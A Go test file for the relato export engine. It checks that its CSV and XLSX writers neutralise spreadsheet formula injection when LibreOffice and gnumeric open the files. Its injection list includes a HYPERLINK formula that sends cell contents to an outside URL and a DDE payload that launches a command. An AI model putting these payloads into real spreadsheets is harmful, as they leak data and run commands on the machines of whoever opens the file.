package export_test

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/relato/relato/engine/export"
	"github.com/relato/relato/engine/writer"
	"github.com/relato/relato/engine/writer/writertest"
)

// The cases of issue 13, written by relato and opened by real spreadsheet
// programs the way a person opens them: LibreOffice Calc (headless
// --convert-to, Debian libreoffice-calc-nogui) and gnumeric (ssconvert).
// Both convert relato's file to XLSX, which excelize then reads cell by cell:
// a formula there is a formula the program would have run.

// injections are item 1: text a spreadsheet would run as a formula.
var injections = []string{
	`=HYPERLINK("http://example.com/x?"&A1,"Clique")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"=1+1@example.com",
	"+3-1",
	"-2+3",
}

// readerFields: item 1 in "nome", item 2 in "fone" and "protocolo", item 3 in "valor".
var readerFields = []writer.Field{
	{Name: "nome", Label: "Nome", Kind: writer.KindString, Decimals: -1},
	{Name: "fone", Label: "Telefone", Kind: writer.KindString, Decimals: -1},
	{Name: "protocolo", Label: "Protocolo", Kind: writer.KindString, Decimals: -1},
	{Name: "valor", Label: "Valor", Kind: writer.KindNumber, Decimals: -1},
}

var phones = []string{"+5511900000002", "011900000007"}

const (
	protocol = "120261101000083510"  // 18 digits
	bigValue = "9876543210987654.32" // 18 significant digits
)

func readerRows() *writertest.Rows {
	var rows [][]any
	for i, s := range injections {
		rows = append(rows, []any{s, phones[i%len(phones)], protocol, bigValue})
	}
	return writertest.New([]string{"nome", "fone", "protocolo", "valor"}, rows...)
}

// needProgram skips the test when name is not installed (make test installs
// it), or fails it under CI=true.
func needProgram(t *testing.T, name, pkg string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		msg := fmt.Sprintf("%s not found; install with: apt-get install %s (make deps-test)", name, pkg)
		if os.Getenv("CI") == "true" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
	return p
}

// cell is one cell as a spreadsheet program left it.
type cell struct{ formula, value string }

// readBack opens an XLSX written by a spreadsheet program: the data rows
// (header dropped, up to the first empty row), each cell's formula and shown
// value.
func readBack(t *testing.T, path string) [][]cell {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatalf("open %s: %v", path, err)
	}
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	var out [][]cell
	// The data end at the first empty row (notes may follow it).
	for r := 1; r < len(rows) && len(rows[r]) > 0; r++ {
		var cs []cell
		for c := range readerFields {
			name, _ := excelize.CoordinatesToCellName(c+1, r+1)
			formula, _ := f.GetCellFormula(sheet, name)
			value, _ := f.GetCellValue(sheet, name, excelize.Options{RawCellValue: true})
			cs = append(cs, cell{formula, value})
		}
		out = append(out, cs)
	}
	return out
}

// textConstant is a formula that is only a quoted text ("+5511900000002"):
// it computes nothing. csv-excel writes text this way (writer's guard.go).
var textConstant = regexp.MustCompile(`^"(?:[^"]|"")*"$`)

// live reports whether formula would compute something.
func live(formula string) bool {
	return formula != "" && !textConstant.MatchString(strings.TrimPrefix(formula, "="))
}

// writeFile writes the reader rows in format f to dir/<id><ext>.
func writeFile(t *testing.T, dir string, f export.Format) string {
	t.Helper()
	var buf bytes.Buffer
	if _, err := f.Write(context.Background(), &buf, readerFields, readerRows(), "pt-BR", nil); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, f.ID+f.Extension)
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// libreOffice converts files to XLSX in outDir with CSV import options
// filter ("" for XLSX input), in its own profile so tests do not share one.
func libreOffice(t *testing.T, soffice, outDir, filter string, files ...string) {
	t.Helper()
	args := []string{"-env:UserInstallation=file://" + filepath.Join(t.TempDir(), "profile"), "--headless", "--norestore"}
	if filter != "" {
		args = append(args, "--infilter="+filter)
	}
	args = append(args, "--convert-to", "xlsx", "--outdir", outDir)
	cmd := exec.Command(soffice, append(args, files...)...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
}

func TestSpreadsheetReaders_RunNoFormulaAndKeepTextAndDigits(t *testing.T) {
	t.Parallel()
	soffice := needProgram(t, "soffice", "libreoffice-calc-nogui")
	ssconvert := needProgram(t, "ssconvert", "gnumeric")
	in, lo, gn := t.TempDir(), t.TempDir(), t.TempDir()
	csvFile, excelFile, exactFile, xlsxFile := writeFile(t, in, export.CSV), writeFile(t, in, export.CSVExcel), writeFile(t, in, export.CSVExact), writeFile(t, in, export.XLSX)

	// LibreOffice's CSV import as a double click fills it in: the file's
	// separator, '"' as the text delimiter, UTF-8 (76), from line 1; the
	// other options (formulas evaluated, no "quoted field as text") at their
	// defaults.
	libreOffice(t, soffice, lo, "CSV:44,34,76,1", csvFile, exactFile)
	libreOffice(t, soffice, lo, "CSV:59,34,76,1", excelFile)
	libreOffice(t, soffice, lo, "", xlsxFile)
	// gnumeric reads comma CSV and XLSX; its ssconvert cannot import a
	// semicolon CSV without its GUI ("This importer can only be used with a
	// GUI"), so csv-excel is LibreOffice's alone.
	for _, f := range []string{csvFile, exactFile, xlsxFile} {
		out := filepath.Join(gn, strings.TrimSuffix(filepath.Base(f), filepath.Ext(f))+".xlsx")
		if b, err := exec.Command(ssconvert, f, out).CombinedOutput(); err != nil {
			t.Fatalf("ssconvert %s: %v\n%s", f, err, b)
		}
	}

	type check struct {
		reader, format string
		path           string
	}
	var checks []check
	for _, id := range []string{"csv", "csv-excel", "xlsx"} {
		checks = append(checks, check{"LibreOffice", id, filepath.Join(lo, id+".xlsx")})
		if id != "csv-excel" {
			checks = append(checks, check{"gnumeric", id, filepath.Join(gn, id+".xlsx")})
		}
	}
	for _, c := range checks {
		t.Run(c.reader+" opens "+c.format, func(t *testing.T) {
			rows := readBack(t, c.path)
			if len(rows) != len(injections) {
				t.Fatalf("%d data rows, want %d", len(rows), len(injections))
			}
			for i, row := range rows {
				for j, got := range row {
					if live(got.formula) {
						t.Errorf("row %d %s: formula %q survived (shows %q)", i+1, readerFields[j].Label, got.formula, got.value)
					}
				}
				// Item 1: the name is the same text; in csv OWASP's apostrophe
				// may show (LibreOffice shows it, gnumeric hides it).
				name := injections[i]
				if g := row[0].value; g != name && !(c.format == "csv" && g == "'"+name) {
					t.Errorf("row %d name = %q, want %q", i+1, g, name)
				}
				if c.format == "csv" {
					continue // csv is the international text; csv-excel and xlsx keep text as text
				}
				// Item 2: phone, leading zero and protocol as the same text.
				if g, want := row[1].value, phones[i%len(phones)]; g != want {
					t.Errorf("row %d phone = %q, want %q", i+1, g, want)
				}
				if g := row[2].value; g != protocol {
					t.Errorf("row %d protocol = %q, want %q", i+1, g, protocol)
				}
				// Item 3: every digit of the number, in pt-BR's decimal comma.
				if c.format == "xlsx" {
					if g := row[3].value; g != "9876543210987654,32" {
						t.Errorf("row %d value = %q, want 9876543210987654,32", i+1, g)
					}
				}
			}
		})
	}

	// The check can fail: the unguarded csv-exact does get formulas run.
	for _, reader := range []string{lo, gn} {
		rows := readBack(t, filepath.Join(reader, "csv-exact.xlsx"))
		liveFound := false
		for _, row := range rows {
			liveFound = liveFound || live(row[0].formula)
		}
		if !liveFound && reader == lo {
			t.Errorf("LibreOffice ran no formula of csv-exact; the check above proves nothing")
		}
	}
}
